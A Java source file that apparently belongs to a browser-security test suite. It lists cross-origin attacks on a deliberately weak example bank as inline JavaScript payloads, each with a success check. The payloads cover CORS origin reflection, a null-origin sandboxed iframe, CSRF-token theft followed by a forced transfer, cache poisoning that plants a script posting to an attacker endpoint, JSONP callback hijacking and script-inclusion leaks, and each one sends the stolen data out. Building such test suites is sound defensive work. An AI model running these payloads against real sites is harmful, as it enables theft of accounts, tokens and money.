package dev.cordon.examples.bank.evil;

import static dev.cordon.examples.bank.evil.Draft.fromEvil;
import static dev.cordon.examples.bank.evil.Draft.fromSibling;
import static dev.cordon.examples.bank.evil.Witnesses.accountStolen;
import static dev.cordon.examples.bank.evil.Witnesses.reported;

import java.util.List;

/** Pages that read what is not theirs. */
final class ReadAttacks {

  private static final String METRICS = "corner-bank-internal";

  private ReadAttacks() {}

  static List<Attack> list() {
    return List.of(
        fromSibling("R01-reflected-origin", "Reads the balance: the bank echoes any Origin")
            .does(read("/api/balance"))
            .worksIf(accountStolen()),
        fromSibling("R01-film", "Copies the film, byte by byte")
            .does(
                """
                const answer = await fetch(T + '/film.mp4', {credentials: 'include'});
                const bytes = new Uint8Array(await answer.arrayBuffer());
                if (answer.ok) await loot('film of ' + bytes.length + ' bytes, '
                  + String.fromCharCode(...bytes.slice(4, 8)));
                """)
            .worksIf(reported("ftyp")),
        fromSibling("R01-token-theft", "Reads the token out of the dashboard, then pays with it")
            .does(
                """
                const page = await (await fetch(T + '/dashboard', {credentials: 'include'})).text();
                const token = new DOMParser().parseFromString(page, 'text/html')
                  .querySelector('meta[name=csrf-token]').content;
                await fetch(T + '/api/transfer', {method: 'POST', credentials: 'include',
                  headers: {'X-CSRF-Token': token}, body: new URLSearchParams(PAY)});
                """)
            .worksIf(Witnesses.moneyMoved()),
        fromEvil("R02-null-origin", "A sandboxed frame reads: the bank echoes null too")
            .victim(Victim.LOGGED_OUT)
            .does(
                """
                const answer = new Promise(settle => onmessage = message => settle(message.data));
                const frame = document.createElement('iframe');
                frame.sandbox = 'allow-scripts';
                frame.srcdoc = `<script>fetch('${T}/internal/metrics', {credentials: 'include'})
                  .then(a => a.text(), String).then(t => parent.postMessage(t, '*'))<` + '/script>';
                document.body.append(frame);
                await loot(await within(3000, answer));
                """)
            .worksIf(reported(METRICS)),
        fromEvil(
                "R11-loopback-service", "Any site reads a page that is meant for this machine only")
            .victim(Victim.LOGGED_OUT)
            .does("await loot(await (await fetch(T + '/internal/metrics')).text());")
            .worksIf(reported(METRICS)),
        fromSibling("R18-cache-poisoning", "Puts a script into the cached page of the bank")
            .does(
                """
                const payload = `<script>fetch('${E}/loot/${NAME}/${ID}', {method: 'POST',`
                  + `mode: 'no-cors', body: 'ran in ' + origin})<` + '/script>';
                await fetch(T + '/greeting', {credentials: 'include', cache: 'reload',
                  headers: {'X-Greeting': payload}});
                await end({ran: true});
                location = T + '/greeting';
                """)
            .worksIf(
                (attack, bank, loot) ->
                    loot.reports(attack.id()).stream().anyMatch(r -> r.startsWith("ran in "))),
        fromSibling("R19-exposed-header", "Reads the account's number out of an exposed header")
            .does(
                """
                const answer = await fetch(T + '/api/balance', {credentials: 'include'});
                await loot(answer.headers.get('X-Account-Number'));
                """)
            .worksIf(accountStolen()),
        fromSibling("R20-jsonp", "Names its own function to the JSONP endpoint")
            .does(
                """
                let stolen;
                window.steal = data => stolen = JSON.stringify(data);
                await within(3000, element('script',
                  {src: T + '/api/accounts.jsonp?callback=steal'}));
                if (stolen) await loot(stolen);
                """)
            .worksIf(accountStolen()),
        fromSibling("R20-statement-script", "Runs the statement, which is a script")
            .does(
                """
                await within(3000, element('script', {src: T + '/api/statement.js'}));
                if (window.statement) await loot(JSON.stringify(window.statement));
                """)
            .worksIf(accountStolen()),
        fromSibling("R22-graphql-get", "Asks the query endpoint, on GET and without a preflight")
            .does(read("/graphql?query={account,balance}"))
            .worksIf(accountStolen()));
  }

  private static String read(String path) {
    return "await loot(await (await fetch(T + '%s', {credentials: 'include'})).text());"
        .formatted(path);
  }
}
